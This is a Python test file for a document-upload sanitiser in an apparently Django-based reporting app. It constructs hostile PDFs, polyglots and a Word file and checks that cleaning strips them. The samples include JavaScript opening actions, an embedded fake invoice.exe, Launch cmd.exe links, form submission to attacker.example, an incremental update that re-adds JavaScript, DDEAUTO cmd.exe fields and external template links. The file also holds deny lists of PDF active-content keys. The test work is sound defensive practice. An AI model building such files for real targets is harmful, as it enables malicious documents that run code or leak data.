"""Hostile uploads made here: PDFs and Word files with active content, and polyglots.

Each is cleaned, parsed again and checked to hold none of what made it hostile; the same files go
through the report wizard, and the stored file and the page are checked too.
"""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections.abc import Callable

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pikepdf import Array, Dictionary, Name, String

from redress.intake import upload_words
from redress.intake.actions import answers_of
from redress.intake.models import Draft
from redress.intake.sandbox import clean
from redress.intake.upload_words import UploadRefused
from redress.vault.storage import EncryptingStorage
from tests.intake import samples

EXECUTABLE = b"MZ\x90\x00INVOICE-EXE-MARKER"
SCRIPT = "app.alert('HOSTILE-SCRIPT-MARKER')"
# Names that must not be left anywhere in a cleaned PDF's objects.
PDF_ACTIVE_KEYS = {"/JS", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/XFA", "/AF"}
PDF_ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR"}


def _saved(document: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return out.getvalue()


def _script(document: pikepdf.Pdf) -> pikepdf.Object:
    return document.make_indirect(
        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT))
    )


def pdf_open_action_and_attachment() -> bytes:
    """JavaScript run on opening, and an embedded invoice.exe, as listed and as an annotation."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = _script(document)
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("run"), _script(document)]))
    )
    attachment = pikepdf.AttachedFileSpec(document, EXECUTABLE, filename="invoice.exe")
    document.attachments["invoice.exe"] = attachment
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([10, 10, 30, 30]),
        FS=attachment.obj,
    )
    document.pages[0].Annots = document.make_indirect(Array([annotation]))
    return _saved(document)


def pdf_uri_and_launch() -> bytes:
    """Two links, one to a web address, one launching a program, and a page action."""
    document = pikepdf.new()
    document.add_blank_page()
    links = [
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([10, 10, 100, 30]),
            A=Dictionary(S=Name.URI, URI=String("https://attacker.example/track")),
        ),
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([10, 40, 100, 60]),
            A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=_script(document)),
        ),
    ]
    page = document.pages[0].obj
    page.Annots = Array(links)
    page.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/")))
    return _saved(document)


def pdf_incremental_update() -> bytes:
    """A plain PDF, then an incremental update whose new catalogue runs JavaScript on opening."""
    document = pikepdf.new()
    document.add_blank_page()
    base = _saved(document)
    root = document.Root.objgen[0]
    pages = document.Root.Pages.objgen[0]
    size = int(re.findall(rb"/Size (\d+)", base)[-1])
    previous = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    action, offsets = size, {}
    update = b"\n"
    for number, body in (
        (action, f"<< /Type /Action /S /JavaScript /JS ({SCRIPT}) >>".encode()),
        (root, f"<< /Type /Catalog /Pages {pages} 0 R /OpenAction {action} 0 R >>".encode()),
    ):
        offsets[number] = len(base) + len(update)
        update += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(base) + len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        update += f"{number} 1\n{offset:010d} 00000 n \n".encode()
    update += (
        f"trailer\n<< /Size {size + 1} /Root {root} 0 R /Prev {previous} >>\n"
        f"startxref\n{xref}\n%%EOF\n"
    ).encode()
    return base + update


def pdf_xfa() -> bytes:
    """An XFA form with a script, and a form field whose keystroke action is JavaScript."""
    document = pikepdf.new()
    document.add_blank_page()
    xfa = document.make_stream(f"<xdp:xdp><script>{SCRIPT}</script></xdp:xdp>".encode())
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("amount"),
            Rect=Array([10, 10, 100, 30]),
            AA=Dictionary(K=_script(document)),
        )
    )
    document.pages[0].Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa)
    return _saved(document)


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a ZIP: an archive holding invoice.exe after the PDF's end."""
    return samples.pdf() + samples.zip_archive({"invoice.exe": EXECUTABLE})


def jpeg_zip_polyglot() -> bytes:
    """A JPEG with an archive after its end."""
    return samples.jpeg() + samples.zip_archive({"invoice.exe": EXECUTABLE})


def assert_inert_pdf(data: bytes) -> None:
    """Every object in the file, reachable or not: no scripts, outward actions or attachments."""
    assert b"HOSTILE-SCRIPT-MARKER" not in data
    assert b"INVOICE-EXE-MARKER" not in data
    assert not zipfile.is_zipfile(io.BytesIO(data))
    with pikepdf.open(io.BytesIO(data)) as document:
        assert len(document.pages) >= 1
        for item in document.objects:
            if isinstance(item, (pikepdf.Dictionary, pikepdf.Stream)):
                assert not PDF_ACTIVE_KEYS & set(item.keys()), item.keys()
                assert str(item.get("/S", "")) not in PDF_ACTIVE_ACTIONS
                assert item.get("/Subtype") != "/FileAttachment"
            if isinstance(item, pikepdf.Stream):
                content = item.read_bytes()
                assert b"HOSTILE-SCRIPT-MARKER" not in content
                assert b"INVOICE-EXE-MARKER" not in content


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OUTSIDE = "https://attacker.example"
DOCUMENT_RELATIONSHIPS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="{RELS}/settings" Target="settings.xml"/>
<Relationship Id="rId2" Type="{RELS}/oleObject" Target="{OUTSIDE}/object.bin"
 TargetMode="External"/>
<Relationship Id="rId3" Type="{RELS}/oleObject" Target="embeddings/oleObject1.bin"/>
<Relationship Id="rId4" Type="{RELS}/control" Target="activeX/activeX1.xml"/>
<Relationship Id="rId5" Type="{RELS}/image" Target="{OUTSIDE}/pixel.png" TargetMode="External"/>
<Relationship Id="rId6" Type="{RELS}/hyperlink" Target="{OUTSIDE}/page" TargetMode="External"/>
</Relationships>""".encode()
SETTINGS_RELATIONSHIPS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId9" Type="{RELS}/attachedTemplate" Target="{OUTSIDE}/template.dotm"
 TargetMode="External"/>
</Relationships>""".encode()
SETTINGS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="{WORD}" xmlns:r="{RELS}"><w:attachedTemplate r:id="rId9"/></w:settings>
""".encode()
HOSTILE_DOCUMENT = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="{WORD}" xmlns:r="{RELS}"
 xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>
<w:p><w:r><w:t>He said it again on Tuesday.</w:t></w:r></w:p>
<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="rId2"/></w:object></w:r></w:p>
<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="rId3"/></w:object></w:r></w:p>
<w:p><w:r><w:object><w:control r:id="rId4" w:name="Button1"/></w:object></w:r></w:p>
<w:p><w:hyperlink r:id="rId6"><w:r><w:t>the page</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>
<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>
</w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Shown result</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr="DDE excel &quot;c:\\\\x.xls&quot;"><w:r><w:t>Two</w:t></w:r>
</w:fldSimple></w:p>
</w:body></w:document>""".encode()
HOSTILE_CONTENT_TYPES = samples.CONTENT_TYPES.replace(
    b"</Types>",
    b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
    b'oleObject"/>'
    b'<Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/'
    b'vnd.openxmlformats-officedocument.oleObject"/>'
    b'<Override PartName="/word/activeX/activeX1.xml" ContentType="application/'
    b'vnd.ms-office.activeX+xml"/>'
    b"</Types>",
)


def docx_hostile() -> bytes:
    """Outside template, outside and embedded OLE objects, an ActiveX control, DDE fields."""
    return samples.docx(
        document=HOSTILE_DOCUMENT,
        content_types=HOSTILE_CONTENT_TYPES,
        extra={
            "word/_rels/document.xml.rels": DOCUMENT_RELATIONSHIPS,
            "word/settings.xml": SETTINGS,
            "word/glossary/document.xml": HOSTILE_DOCUMENT.replace(b"DDE excel", b"DDEAUTO cmd"),
            "word/_rels/settings.xml.rels": SETTINGS_RELATIONSHIPS,
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + EXECUTABLE,
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x" ax:classid="{8BD21D40}"/>',
            "word/activeX/_rels/activeX1.xml.rels": b"<Relationships/>",
            "word/activeX/activeX1.bin": EXECUTABLE,
        },
    )


def assert_inert_docx(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert not [name for name in names if "embeddings/" in name or "activeX/" in name]
        for name in names:
            body = archive.read(name)
            assert b"attacker.example" not in body, name
            assert b'TargetMode="External"' not in body, name
            assert b"INVOICE-EXE-MARKER" not in body, name
            assert b"DDE" not in body.upper(), name
            assert b"activeX" not in body, name
            assert b"oleObject1" not in body, name
        document = archive.read("word/document.xml")
        assert b"He said it again on Tuesday." in document
        assert b"Shown result" in document
        assert b"the page" in document


PDF_CASES: list[tuple[Callable[[], bytes], set[str]]] = [
    (
        pdf_open_action_and_attachment,
        {upload_words.JAVASCRIPT, upload_words.OPENING_ACTIONS, upload_words.EMBEDDED_FILES},
    ),
    (
        pdf_uri_and_launch,
        {
            upload_words.WEB_LINKS,
            upload_words.OTHER_PROGRAMS,
            upload_words.JAVASCRIPT,
            upload_words.OPENING_ACTIONS,
            upload_words.FORM_SENDING,
        },
    ),
    (pdf_incremental_update, {upload_words.JAVASCRIPT, upload_words.OPENING_ACTIONS}),
    (pdf_xfa, {upload_words.XFA_FORMS, upload_words.JAVASCRIPT, upload_words.OPENING_ACTIONS}),
]


@pytest.mark.parametrize(("make", "labels"), PDF_CASES)
def test_pdf_active_content_is_removed_and_said(
    make: Callable[[], bytes], labels: set[str]
) -> None:
    original = make()
    assert b"HOSTILE-SCRIPT-MARKER" in original or b"attacker.example" in original

    cleaned = clean(original, filename="statement.pdf")

    assert_inert_pdf(cleaned.data)
    assert b"attacker.example" not in cleaned.data
    assert b"cmd.exe" not in cleaned.data
    assert labels <= set(cleaned.removed)


def test_the_incremental_update_really_re_adds_javascript() -> None:
    with pikepdf.open(io.BytesIO(pdf_incremental_update())) as document:
        assert str(document.Root.OpenAction.S) == "/JavaScript"


def test_an_xfa_form_keeps_its_field() -> None:
    cleaned = clean(pdf_xfa())
    with pikepdf.open(io.BytesIO(cleaned.data)) as document:
        assert len(document.Root.AcroForm.Fields) == 1


@pytest.mark.parametrize("make", [pdf_open_action_and_attachment, docx_hostile])
def test_active_content_cannot_be_kept_as_it_was(make: Callable[[], bytes]) -> None:
    with pytest.raises(UploadRefused) as refused:
        clean(make(), keep_original=True)
    assert refused.value.reason == upload_words.ACTIVE_KEPT


def test_an_encrypted_pdf_is_refused_plainly() -> None:
    document = pikepdf.new()
    document.add_blank_page()
    out = io.BytesIO()
    document.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    with pytest.raises(UploadRefused) as refused:
        clean(out.getvalue())
    assert refused.value.reason == upload_words.PROTECTED


def test_docx_loses_outside_links_objects_controls_and_dde() -> None:
    original = docx_hostile()

    cleaned = clean(original, filename="statement.docx")

    assert_inert_docx(cleaned.data)
    assert {
        upload_words.OUTSIDE_LINKS,
        upload_words.WEB_LINKS,
        upload_words.EMBEDDED_OBJECTS,
        upload_words.DDE_FIELDS,
    } <= set(cleaned.removed)
    with zipfile.ZipFile(io.BytesIO(cleaned.data)) as archive:
        relationships = archive.read("word/_rels/document.xml.rels")
        assert b'Id="rId1"' in relationships  # the settings part stays linked
        assert b"<w:attachedTemplate/>" in archive.read("word/settings.xml")


def test_a_plain_docx_is_not_touched_by_the_active_content_pass() -> None:
    cleaned = clean(samples.docx())
    assert not set(cleaned.removed) & set(upload_words.ACTIVE_CONTENT)


def test_a_pdf_that_is_also_a_zip_is_cleaned_into_only_a_pdf() -> None:
    original = pdf_zip_polyglot()
    assert zipfile.is_zipfile(io.BytesIO(original))

    cleaned = clean(original, filename="report.pdf")

    assert cleaned.kind == "pdf"
    assert_inert_pdf(cleaned.data)


def test_a_jpeg_with_a_trailing_archive_is_cleaned_into_only_a_jpeg() -> None:
    original = jpeg_zip_polyglot()
    assert zipfile.is_zipfile(io.BytesIO(original))

    cleaned = clean(original, filename="photo.jpg")

    assert cleaned.kind == "jpeg"
    assert not zipfile.is_zipfile(io.BytesIO(cleaned.data))
    assert b"INVOICE-EXE-MARKER" not in cleaned.data


UPLOADS: list[tuple[Callable[[], bytes], str, str]] = [
    (pdf_open_action_and_attachment, "statement.pdf", upload_words.EMBEDDED_FILES),
    (pdf_uri_and_launch, "links.pdf", upload_words.OTHER_PROGRAMS),
    (pdf_incremental_update, "updated.pdf", upload_words.JAVASCRIPT),
    (pdf_xfa, "form.pdf", upload_words.XFA_FORMS),
    (docx_hostile, "statement.docx", upload_words.OUTSIDE_LINKS),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("make", "name", "label"), UPLOADS)
def test_the_wizard_stores_the_cleaned_file_and_says_what_went(
    client: Client, make: Callable[[], bytes], name: str, label: str
) -> None:
    client.get("/report/start")
    response = client.post(
        "/report/evidence", {"upload": "1", "file": SimpleUploadedFile(name, make())}
    )
    assert response.status_code == 302

    draft = Draft.objects.get()
    (item,) = answers_of(draft)["evidence"]
    stored = EncryptingStorage().open_sealed(item["stored_name"], draft.data_key)
    if name.endswith(".pdf"):
        assert_inert_pdf(stored)
    else:
        assert_inert_docx(stored)
    page = client.get("/report/evidence").content.decode()
    assert "Removed:" in page
    assert label in page


@pytest.mark.django_db
def test_the_welsh_page_names_what_went_in_welsh(client: Client) -> None:
    client.get("/language/cy?next=/report/start")
    client.get("/report/start")
    upload = SimpleUploadedFile("statement.pdf", pdf_open_action_and_attachment())
    client.post("/report/evidence", {"upload": "1", "file": upload})
    page = html.unescape(client.get("/report/evidence").content.decode())
    assert "sgriptiau (JavaScript)" in page
    assert "ffeiliau wedi'u mewnosod" in page
